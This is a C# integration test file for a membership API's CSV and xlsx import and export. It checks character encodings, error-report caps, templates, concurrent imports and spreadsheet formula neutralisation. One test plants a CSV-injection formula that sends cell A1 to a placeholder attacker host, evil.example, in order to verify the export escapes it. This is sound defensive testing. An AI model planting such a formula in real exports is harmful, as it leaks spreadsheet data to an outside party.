using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using CsvHelper;

namespace ClusterHub.Tests.Exchange;

/// <summary>Imports and exports through the API as a spreadsheet user meets them: encodings, error caps, formulas, xlsx, templates.</summary>
public abstract class ExchangeApiTests<TApp>(TApp app) : IClassFixture<TApp> where TApp : ClusterHubApplication
{
    private static readonly string Suffix = typeof(TApp).Name.ToLowerInvariant();

    private const string AccentedCsv = "name;type;departement;city;joined_on\r\nSociété Élégante;Sme;25;Besançon;2012-04-02\r\nŒuvres Müller;University;21;Dijon;2001-09-01\r\n";

    private static byte[] Encode(string encoding, string text) => encoding switch
    {
        "utf-8" => new UTF8Encoding(false).GetBytes(text),
        "utf-8-bom" => [.. Encoding.UTF8.Preamble, .. Encoding.UTF8.GetBytes(text)],
        "utf-16le" => [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes(text)],
        "utf-16be" => [.. Encoding.BigEndianUnicode.Preamble, .. Encoding.BigEndianUnicode.GetBytes(text)],
        "windows-1252" => CodePagesEncodingProvider.Instance.GetEncoding(1252)!.GetBytes(text),
        _ => throw new ArgumentOutOfRangeException(nameof(encoding)),
    };

    private static Task<HttpResponseMessage> PostBytes(HttpClient api, string url, byte[] bytes)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        return api.PostAsync(url, content);
    }

    private static async Task<List<string?>> Names(HttpClient api, string slug)
    {
        var list = await (await api.GetAsync($"/api/v1/clusters/{slug}/members?pageSize=200")).Json(HttpStatusCode.OK);
        return [.. list.GetProperty("items").EnumerateArray().Select(m => m.GetProperty("name").GetString())];
    }

    [Theory]
    [InlineData("utf-8")]
    [InlineData("utf-8-bom")]
    [InlineData("utf-16le")]
    [InlineData("utf-16be")]
    [InlineData("windows-1252")]
    public async Task An_upload_in_any_spreadsheet_encoding_is_stored_with_its_accents(string encoding)
    {
        var c = await app.CreateClusterAsync($"enc-{encoding}-{Suffix}");
        var api = await app.CreateClientAsync("Manager", c.Slug);
        var bytes = Encode(encoding, AccentedCsv);
        var report = await (await PostBytes(api, $"/api/v1/clusters/{c.Slug}/members/import?fileName=f.csv", bytes)).Json(HttpStatusCode.OK);
        Assert.Equal(2, report.GetProperty("created").GetInt32());
        Assert.Equal(["Société Élégante", "Œuvres Müller"], (await Names(api, c.Slug)).Order(StringComparer.Ordinal));
        var details = await (await api.GetAsync($"/api/v1/clusters/{c.Slug}/members?search=elegante")).Json(HttpStatusCode.OK);
        Assert.Equal("Besançon", details.GetProperty("items")[0].GetProperty("city").GetString());
    }

    [Theory]
    [InlineData("windows-1252", 3, "0x81")] // cp1252 leaves 0x81 undefined, and the file is not UTF-8
    [InlineData("utf-8-bom", 3, "0xE9")] // the mark says UTF-8, a lone é in Windows-1252 says otherwise
    public async Task Bytes_that_fit_no_supported_encoding_are_refused_with_their_line_and_nothing_is_stored(string declared, int line, string value)
    {
        var c = await app.CreateClusterAsync($"badbytes-{declared}-{Suffix}");
        var api = await app.CreateClientAsync("Manager", c.Slug);
        byte[] text = declared == "windows-1252"
            ? [.. Encode("windows-1252", "name,type,joined_on\nSociété Une,Sme,2010-01-01\nDeux "), 0x81, .. Encode("utf-8", ",Sme,2010-01-01\n")]
            : [.. Encode("utf-8-bom", "name,type,joined_on\nSociété Une,Sme,2010-01-01\nDeux "), 0xE9, .. Encode("utf-8", ",Sme,2010-01-01\n")];
        var report = await (await PostBytes(api, $"/api/v1/clusters/{c.Slug}/members/import?fileName=bad.csv", text)).Json(HttpStatusCode.UnprocessableEntity);
        var error = report.GetProperty("errors")[0];
        Assert.Equal(("bad.csv", line, value), (error.GetProperty("file").GetString(), error.GetProperty("row").GetInt32(), error.GetProperty("value").GetString()));
        Assert.Equal(1, report.GetProperty("errorCount").GetInt32());
        Assert.Empty(await Names(api, c.Slug));
    }

    [Fact]
    public async Task An_all_invalid_file_reports_the_first_thousand_errors_and_counts_them_all()
    {
        var c = await app.CreateClusterAsync("errorcap-" + Suffix);
        var api = await app.CreateClientAsync("Manager", c.Slug);
        var csv = new StringBuilder("name,type,joined_on\n");
        for (var i = 0; i < 1_500; i++) csv.Append(CultureInfo.InvariantCulture, $"Org {i},Spaceship,2010-01-01\n");
        var report = await (await api.PostText($"/api/v1/clusters/{c.Slug}/members/import", csv.ToString(), "text/csv")).Json(HttpStatusCode.UnprocessableEntity);
        Assert.Equal(1_500, report.GetProperty("errorCount").GetInt32());
        Assert.Equal(1_000, report.GetProperty("errors").GetArrayLength());
        Assert.Equal("first 1,000 of 1,500", report.GetProperty("errorsShown").GetString());
        Assert.Equal(1_001, report.GetProperty("errors")[999].GetProperty("row").GetInt32());
    }

    [Fact]
    public async Task A_formula_planted_by_a_representative_is_neutralised_in_the_csv_export_which_excel_reads_as_utf8()
    {
        var c = await app.CreateClusterAsync("formula-" + Suffix);
        var manager = await app.CreateClientAsync("Manager", c.Slug);
        await (await manager.PostText($"/api/v1/clusters/{c.Slug}/members/import", "name,type,headcount,national_id,joined_on\nForge Sûre,Sme,12,123456782,2010-01-01\n", "text/csv")).Json(HttpStatusCode.OK);
        var id = (await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members")).Json(HttpStatusCode.OK)).GetProperty("items")[0].GetProperty("id").GetInt32();
        var representative = await app.CreateClientAsync("MemberRepresentative", c.Slug, "123456782");
        const string planted = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        // The city is the representative's to edit (the name is the secretariat's).
        await (await representative.PutAsJsonAsync($"/api/v1/clusters/{c.Slug}/members/{id}",
            new { name = "Forge Sûre", type = "Sme", headcount = "12", nationalId = "123456782", joinedOn = "2010-01-01", city = planted })).Json(HttpStatusCode.OK);

        var export = await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members/export?format=csv");
        var bytes = await export.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        using var csv = new CsvReader(new StringReader(Encoding.UTF8.GetString(bytes[3..])), CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        csv.Read();
        Assert.Equal("'" + planted, csv.GetField("city"));
        Assert.Equal("12", csv.GetField("headcount"));

        // Our own import takes the quote off again: the export imports back unchanged.
        var back = await (await PostBytes(manager, $"/api/v1/clusters/{c.Slug}/members/import", bytes)).Json(HttpStatusCode.OK);
        Assert.Equal(1, back.GetProperty("unchanged").GetInt32());
        var member = await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members/{id}")).Json(HttpStatusCode.OK);
        Assert.Equal(planted, member.GetProperty("member").GetProperty("city").GetString());
    }

    [Fact]
    public async Task The_xlsx_exports_of_members_and_of_the_ledger_open_with_typed_cells()
    {
        var c = await app.CreateClusterAsync("xlsx-" + Suffix);
        var manager = await app.CreateClientAsync("Manager", c.Slug);
        await (await manager.PostText($"/api/v1/clusters/{c.Slug}/members/import", "name,type,headcount,joined_on\nSociété Élégante,Sme,30,2010-01-01\n=1+1,Sme,20,2010-01-01\n", "text/csv")).Json(HttpStatusCode.OK);

        var export = await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members/export?format=xlsx");
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", export.Content.Headers.ContentType?.MediaType);
        var rows = Xlsx.Rows(await export.Content.ReadAsByteArrayAsync());
        Assert.Equal(("name", "headcount"), (rows[0]["A"], rows[0]["C"]));
        var elegante = rows.Single(r => r["A"] == "Société Élégante");
        Assert.Equal("30", elegante["C"]);
        Assert.Contains(rows, r => r["A"] == "=1+1"); // an xlsx text cell is never evaluated: kept as it is

        await manager.PutAsJsonAsync($"/api/v1/clusters/{c.Slug}/dues/tiers/2020", new[] { new { memberType = "Sme", sizeClass = "Small", amountEur = 812.50m } });
        await (await manager.PostJson($"/api/v1/clusters/{c.Slug}/dues/renewals", new { year = 2020 })).Json(HttpStatusCode.OK);
        var ledger = Xlsx.Rows(await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/dues/ledger?format=xlsx")).Content.ReadAsByteArrayAsync());
        Assert.Equal(["year", "member_type", "size_class", "invoices", "invoiced_eur", "paid_eur", "outstanding_eur", "written_off_eur"], ledger[0].Values);
        Assert.Equal(("2020", "Sme", "2", "1625"), (ledger[1]["A"], ledger[1]["B"], ledger[1]["D"], ledger[1]["E"].TrimEnd('0').TrimEnd('.')));

        var csvLedger = await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/dues/ledger?format=csv")).Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], csvLedger[..3]);
        await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members/export?format=pdf")).Problem(HttpStatusCode.BadRequest);
    }

    [Fact]
    public async Task The_import_template_lists_the_valid_values_and_imports_as_it_is()
    {
        var c = await app.CreateClusterAsync("template-" + Suffix);
        var manager = await app.CreateClientAsync("Manager", c.Slug);
        var response = await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members/import/template");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("members-template.csv", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n");
        Assert.StartsWith("name,type,headcount,", lines[0], StringComparison.Ordinal);
        string Note(string column) => lines.Single(l => l.StartsWith($"# {column}:", StringComparison.Ordinal));
        Assert.All(Enum.GetNames<ClusterHub.Members.MemberType>(), t => Assert.Contains(t, Note("type"), StringComparison.Ordinal));
        Assert.All(Enum.GetNames<ClusterHub.Members.MemberStatus>(), s => Assert.Contains(s, Note("status"), StringComparison.Ordinal));
        Assert.Contains("yes | ", Note("founding_member"), StringComparison.Ordinal);
        Assert.Contains("| no", Note("contact_consent"), StringComparison.Ordinal);

        var observer = await app.CreateClientAsync("Observer", c.Slug);
        await (await observer.GetAsync($"/api/v1/clusters/{c.Slug}/members/import/template")).Problem(HttpStatusCode.Forbidden);

        var imported = await (await PostBytes(manager, $"/api/v1/clusters/{c.Slug}/members/import", await response.Content.ReadAsByteArrayAsync())).Json(HttpStatusCode.OK);
        Assert.Equal((1, 1), (imported.GetProperty("rows").GetInt32(), imported.GetProperty("created").GetInt32()));
    }

    [Fact]
    public async Task Two_imports_of_one_file_at_once_leave_each_member_once_and_the_second_says_so()
    {
        var c = await app.CreateClusterAsync("race-" + Suffix);
        var manager = await app.CreateClientAsync("Manager", c.Slug);
        var csv = new StringBuilder("name,type,headcount,city,joined_on\n");
        for (var i = 0; i < 2_000; i++) csv.Append(CultureInfo.InvariantCulture, $"Entreprise {i:D4},Sme,{i % 300},Ville {i % 50},2010-01-01\n");
        var text = csv.ToString();
        var both = await Task.WhenAll(Enumerable.Range(0, 2).Select(_ =>
            Task.Run(async () => await (await manager.PostText($"/api/v1/clusters/{c.Slug}/members/import", text, "text/csv")).Json(HttpStatusCode.OK))));
        var reports = both.Select(r => (Created: r.GetProperty("created").GetInt32(), Unchanged: r.GetProperty("unchanged").GetInt32())).OrderByDescending(r => r.Created).ToList();
        Assert.Equal([(2_000, 0), (0, 2_000)], reports);
        var total = (await (await manager.GetAsync($"/api/v1/clusters/{c.Slug}/members")).Json(HttpStatusCode.OK)).GetProperty("total").GetInt32();
        Assert.Equal(2_000, total);
    }
}

public sealed class ExchangeApiOnSqlite(SqliteApplication app) : ExchangeApiTests<SqliteApplication>(app);
public sealed class ExchangeApiOnPostgres(PostgresApplication app) : ExchangeApiTests<PostgresApplication>(app);
